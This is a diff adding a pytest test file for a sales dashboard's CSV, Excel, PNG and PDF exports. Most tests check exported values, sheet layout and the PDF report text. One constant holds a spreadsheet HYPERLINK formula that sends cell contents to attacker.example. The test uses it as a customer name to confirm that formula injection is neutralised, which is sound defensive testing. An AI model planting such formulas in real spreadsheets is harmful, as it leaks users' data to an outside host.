@@ -1,0 +1,201 @@
+"""Export files opened and checked: CSV and Excel read back (values = the metric layer's), formula-like cells
+neutralised, a chart PNG's size, and the PDF report's text. PNG/PDF tests start a real headless Chromium."""
+
+import csv
+import io
+from datetime import date, datetime
+from pathlib import Path
+
+import openpyxl
+import pytest
+from PIL import Image
+from pypdf import PdfReader
+from sqlalchemy import Engine
+
+from salesdash.dashboard.format import money
+from salesdash.errors import InsufficientData, InvalidParameter
+from salesdash.export import ExportContext, export, view_params
+from salesdash.export.images import ExportUnavailable
+from salesdash.ingest import ingest_file
+from salesdash.metrics import Filters, breakdown, kpis
+from salesdash.metrics.rfm import rfm
+from salesdash.store import current_version, make_engine, snapshot
+from tests.conftest import SAMPLE_CSV
+from tests.orderlines import line, write_csv
+
+EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Click me")'
+
+
+@pytest.fixture(scope="module")
+def sample(tmp_path_factory: pytest.TempPathFactory) -> Engine:
+    """The bundled sample in SQLite, once for this module (exports are engine-independent: they call the
+    metric layer, which the contract suite checks on every engine)."""
+    engine = make_engine(f"sqlite:///{tmp_path_factory.mktemp('export') / 'sample.db'}")
+    ingest_file(engine, SAMPLE_CSV)
+    return engine
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Engine:
+    """Customers whose names are spreadsheet formulas."""
+    rows = [
+        line(1, date(2004, 1, 5), 5000.0, customer=EVIL),
+        line(2, date(2004, 2, 5), 300.0, customer="+1 Trading", country="France"),
+        line(3, date(2004, 3, 5), 200.0, customer="@Home Ltd", country="Spain"),
+        line(4, date(2004, 3, 9), 100.0, customer="-minus Co", country="Spain"),
+        line(5, date(2004, 3, 9), 50.0, customer="Plain Co", country="Spain"),
+    ]
+    engine = make_engine(f"sqlite:///{tmp_path / 'hostile.db'}")
+    ingest_file(engine, write_csv(tmp_path / "hostile.csv", rows))
+    return engine
+
+
+def context(engine: Engine, filters: Filters) -> ExportContext:
+    version = current_version(engine)
+    assert version is not None
+    return ExportContext(version.version, datetime(2026, 1, 2, 3, 4, 5).isoformat(), filters)
+
+
+def run(engine: Engine, view: str, fmt: str, filters: Filters = Filters(), **params: str):
+    with snapshot(engine) as conn:
+        return export(conn, filters, view, fmt, context(engine, filters), params)
+
+
+def test_xlsx_data_sheet_holds_the_metric_layer_values(sample: Engine):
+    f = Filters(countries=("France", "Spain"), start=date(2004, 1, 1))
+    file = run(sample, "sales-by-category", "xlsx", f)
+    with snapshot(sample) as conn:
+        expected = breakdown(conn, f, "product_line")
+    book = openpyxl.load_workbook(io.BytesIO(file.content))
+    assert book.sheetnames == ["Sales by product line", "About"]
+    sheet = book["Sales by product line"]
+    header = [c.value for c in sheet[1]]
+    assert header == list(expected.columns)
+    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
+    assert [r["product_line"] for r in rows] == list(expected["product_line"])
+    assert [r["revenue"] for r in rows] == list(expected["revenue"])
+    assert [r["order_count"] for r in rows] == list(expected["order_count"])
+    assert [r["revenue_share"] for r in rows] == list(expected["revenue_share"])
+    assert sheet["B2"].number_format == "#,##0.00"
+    assert file.media_type.startswith("application/vnd.openxmlformats")
+    assert file.filename.endswith(".xlsx")
+
+
+def test_xlsx_about_sheet_has_filters_data_version_and_definitions(sample: Engine):
+    f = Filters(countries=("France",), end=date(2004, 12, 31))
+    file = run(sample, "top-customers", "xlsx", f, limit="5")
+    about = {
+        row[0]: row[1]
+        for row in openpyxl.load_workbook(io.BytesIO(file.content))["About"].iter_rows(values_only=True)
+        if row[0]
+    }
+    version = current_version(sample)
+    assert version is not None
+    assert about["Data version"] == version.version
+    assert about["Countries"] == "France"
+    assert about["Order dates"] == "up to 2004-12-31"
+    assert about["Statuses"] == "all except Cancelled"
+    assert about["View parameter: limit"] == "5"
+    assert about["revenue"].startswith("Sum of SALES")
+    assert "order_count" in about
+
+
+def test_kpis_xlsx_matches_kpis_and_dates_are_dates(sample: Engine):
+    file = run(sample, "kpis", "xlsx")
+    with snapshot(sample) as conn:
+        expected = kpis(conn, Filters())
+    sheet = openpyxl.load_workbook(io.BytesIO(file.content)).worksheets[0]
+    values = {row[0]: row[3] for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert values["revenue"] == expected["revenue"] == 9838141.37
+    assert values["order_count"] == expected["order_count"]
+    assert values["average_order_value"] == expected["average_order_value"]
+
+    rfm_file = run(sample, "rfm", "xlsx")
+    book = openpyxl.load_workbook(io.BytesIO(rfm_file.content))
+    assert book.sheetnames == ["Customer RFM segments", "Segments", "About"]
+    first = book.worksheets[0]
+    header = [c.value for c in first[1]]
+    assert isinstance(first.cell(2, header.index("last_order_date") + 1).value, datetime)
+    with snapshot(sample) as conn:
+        scored, _ = rfm(conn, Filters())
+    assert first.max_row - 1 == len(scored)
+
+
+def test_formula_like_cells_are_neutralised_in_csv_and_xlsx(hostile: Engine):
+    text = run(hostile, "top-customers", "csv").content.decode("utf-8")
+    names = [row["customer_name"] for row in csv.DictReader(io.StringIO(text))]
+    assert names == ["'" + EVIL, "'+1 Trading", "'@Home Ltd", "'-minus Co", "Plain Co"]
+
+    f = Filters(customer=EVIL)
+    book = openpyxl.load_workbook(io.BytesIO(run(hostile, "top-customers", "xlsx").content))
+    cells = [row[1] for row in book.worksheets[0].iter_rows(min_row=2)]
+    assert [c.value for c in cells][:4] == ["'" + EVIL, "'+1 Trading", "'@Home Ltd", "'-minus Co"]
+    assert all(c.data_type == "s" for c in cells)  # text, never a formula
+    about = openpyxl.load_workbook(io.BytesIO(run(hostile, "kpis", "xlsx", f).content))["About"]
+    customer = next(row[1] for row in about.iter_rows(values_only=True) if row[0] == "Customer")
+    assert customer == "'" + EVIL
+
+
+def test_view_parameters_are_checked():
+    assert view_params("forecast", {"horizon": "6"}) == {"horizon": 6}
+    assert view_params("top-customers", {}) == {"limit": 10}
+    with pytest.raises(InvalidParameter) as info:
+        view_params("kpis", {"horizon": "3"})
+    assert "applies to view=forecast" in info.value.message
+    with pytest.raises(InvalidParameter) as info:
+        view_params("forecast", {"horizon": "13"})
+    assert info.value.details[0]["parameter"] == "horizon"
+    with pytest.raises(InvalidParameter) as info:
+        view_params("nope", {})
+    assert info.value.details[0]["parameter"] == "view"
+
+
+def test_png_of_a_view_without_chart_and_unknown_format_are_refused(sample: Engine):
+    with pytest.raises(InvalidParameter) as info:
+        run(sample, "kpis", "png")
+    assert "no chart" in info.value.message
+    with pytest.raises(InvalidParameter):
+        run(sample, "kpis", "docx")
+
+
+def test_too_little_history_for_a_forecast_export_says_so(hostile: Engine):
+    with pytest.raises(InsufficientData):
+        run(hostile, "forecast", "csv")
+
+
+def test_chart_png_has_the_promised_size(sample: Engine):
+    file = run(sample, "forecast", "png", horizon="6")
+    image = Image.open(io.BytesIO(file.content))
+    assert image.format == "PNG"
+    assert image.size == (2400, 1200)
+    assert file.media_type == "image/png"
+
+
+def test_pdf_report_shows_kpis_filters_and_data_version(sample: Engine):
+    f = Filters(countries=("France",))
+    file = run(sample, "rfm", "pdf", f)
+    reader = PdfReader(io.BytesIO(file.content))
+    text = "\n".join(page.extract_text() for page in reader.pages)
+    with snapshot(sample) as conn:
+        france = kpis(conn, f)
+        top = breakdown(conn, f, "customer", limit=1)
+    version = current_version(sample)
+    assert version is not None
+    assert "Sales report" in text
+    assert version.version in text
+    assert money(france["revenue"]) in text
+    assert f"{france['order_count']}" in text
+    assert "France" in text and "all except Cancelled" in text
+    assert top["customer_name"].iloc[0] in text
+    assert "Customer RFM segments" in text and "Champions" in text
+    assert "Metric definitions" in text
+    assert len(reader.pages) >= 3
+    assert sum(len(page.images) for page in reader.pages) >= 4  # charts are embedded images
+
+
+def test_missing_browser_is_a_clear_error(sample: Engine, monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
+    with pytest.raises(ExportUnavailable) as info:
+        run(sample, "sales-by-category", "png")
+    assert "Chrome or Chromium" in info.value.message
+    assert info.value.http_status == 503
